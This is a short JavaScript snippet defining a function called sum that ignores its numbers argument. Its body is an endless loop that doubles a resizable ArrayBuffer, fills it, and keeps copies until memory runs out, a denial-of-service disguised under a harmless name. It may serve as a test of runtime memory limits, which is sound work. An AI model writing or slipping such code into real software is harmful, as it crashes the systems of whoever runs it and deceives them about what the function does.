function sum(numbers) {
  let b = new ArrayBuffer(1e6, {maxByteLength: 2e9});
  const kept = [];
  for (;;) { b = b.transfer(b.byteLength * 2); new Uint8Array(b).fill(3); kept.push(b.slice()); }
}
